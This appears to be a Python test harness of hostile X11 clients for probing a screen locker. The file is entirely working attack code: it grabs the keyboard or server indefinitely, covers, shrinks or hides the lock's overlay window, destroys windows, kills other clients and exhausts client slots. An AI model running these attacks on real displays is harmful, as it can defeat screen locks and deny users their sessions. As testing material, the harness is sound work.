"""X clients that do to a locked screen what the protocol lets any client of a display do: `python hostile_x.py ATTACK`.

Prints `up` when the attack stands, and stays until it is ended; `retained` ends by itself and leaves its window.
"""

import contextlib
import sys
import time
from collections.abc import Callable

from Xlib import X
from Xlib.display import Display
from Xlib.error import CatchError, XError, xerror_class
from Xlib.ext import shape
from Xlib.xobject.drawable import Window

COLOUR = 0xFF00FF
NAME = "hostile"
MOST_CLIENTS = 600  # an X server takes 256, or 512


def overlay(display: Display) -> Window:
    """The Composite overlay, which every client may ask for."""
    display.composite_query_version()
    found: Window = display.screen().root.composite_get_overlay_window().overlay_window
    return found


def window(display: Display, parent: Window) -> Window:
    """A window of ours over the whole screen."""
    size = display.screen()
    made: Window = parent.create_window(
        0, 0, size.width_in_pixels, size.height_in_pixels, 0, X.CopyFromParent, background_pixel=COLOUR,
        override_redirect=True, event_mask=X.KeyPressMask | X.ButtonPressMask,
    )  # fmt: skip
    made.set_wm_name(NAME)
    return made


def windows_of_ours(display: Display) -> int:
    """How many of these windows there are."""
    places = (display.screen().root, overlay(display))
    return sum(one.get_wm_name() == NAME for place in places for one in place.query_tree().children)


def hold_keyboard(display: Display) -> None:
    """Keyboard and pointer grabbed, for ever."""
    mine = window(display, display.screen().root)
    mine.map()
    display.sync()
    mine.grab_keyboard(True, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime)
    mine.grab_pointer(True, X.ButtonPressMask, X.GrabModeAsync, X.GrabModeAsync, X.NONE, X.NONE, X.CurrentTime)


def hold_server(display: Display) -> None:
    """Nobody else is served by the X server any more."""
    display.grab_server()


def retained(display: Display) -> None:
    """A window over all, with every key and button of the display, that stays when its program is gone."""
    mine, root = window(display, display.screen().root), display.screen().root
    mine.map()
    for grabbed in (root, mine):
        grabbed.grab_key(X.AnyKey, X.AnyModifier, True, X.GrabModeAsync, X.GrabModeSync, onerror=CatchError())
        grabbed.grab_button(
            X.AnyButton, X.AnyModifier, True, X.ButtonPressMask, X.GrabModeSync, X.GrabModeSync, X.NONE, X.NONE,
            onerror=CatchError(),
        )  # fmt: skip
    inside = window(display, overlay(display))
    inside.map()
    display.set_close_down_mode(X.RetainPermanent)


def in_the_overlay(display: Display) -> None:
    """A window in the place of the lock's own, raised without pause."""
    mine = window(display, overlay(display))

    def again() -> None:
        mine.map(onerror=CatchError())
        mine.raise_window(onerror=CatchError())

    _without_pause(display, again)


def shaped_overlay(display: Display) -> None:
    """The overlay, and what stands in it, are cut down to nothing: not seen, and not touched."""
    above = overlay(display)
    for target in (above, *above.query_tree().children):
        for kind in (shape.SK.Bounding, shape.SK.Clip, shape.SK.Input):
            target.shape_rectangles(shape.SO.Set, kind, 0, 0, 0, [(0, 0, 1, 1)])


def small_overlay(display: Display) -> None:
    """The overlay, and what stands in it, are made small and put aside."""
    above = overlay(display)
    for target in (above, *above.query_tree().children):
        target.configure(x=-50, y=-50, width=10, height=10)


def destroyed_windows(display: Display) -> None:
    """Every window of the display and of the overlay, whoever made it."""
    _without_pause(display, lambda: _each_window(display, lambda one: one.destroy(onerror=CatchError())))


def killed_clients(display: Display) -> None:
    """Every client that has a window, without pause."""
    _without_pause(display, lambda: _each_window(display, lambda one: one.kill_client(onerror=CatchError())))


def all_clients(display: Display) -> None:
    """Every place for a client is taken, and then those who have windows are thrown out, and their places taken too."""
    held: list[Display] = []

    def more() -> None:
        with contextlib.suppress(Exception):
            while len(held) < MOST_CLIENTS:
                held.append(Display())

    def again() -> None:
        more()
        _each_window(display, lambda one: one.kill_client(onerror=CatchError()))
        display.sync()
        more()

    _without_pause(display, again)


def _each_window(display: Display, do: Callable[[Window], object]) -> None:
    above, others = overlay(display), []
    for place in (display.screen().root, above):
        with contextlib.suppress(XError):
            others = [*place.query_tree().children, above]
        for one in others:
            if one.id & ~display.display.info.resource_id_mask != display.display.info.resource_id_base:
                do(one)


def _without_pause(display: Display, do: Callable[[], None]) -> None:
    do()
    display.sync()
    print("up", flush=True)
    while True:
        do()
        display.sync()
        while display.pending_events():
            display.next_event()
        time.sleep(0.001)


ATTACKS: dict[str, Callable[[Display], None]] = {
    made.__name__: made
    for made in (
        hold_keyboard, hold_server, retained, in_the_overlay, shaped_overlay, small_overlay, destroyed_windows,
        killed_clients, all_clients,
    )
}  # fmt: skip


def main(attack: str) -> None:
    """Attack."""
    display = Display()
    # python-xlib takes a window that is gone for an error of RandR's, and stumbles over it.
    display.display.error_classes = xerror_class.copy()
    ATTACKS[attack](display)
    # With the server held this is the last that it does.
    display.sync()
    print("up", flush=True)
    if attack != "retained":
        time.sleep(600)


if __name__ == "__main__":
    main(sys.argv[1])
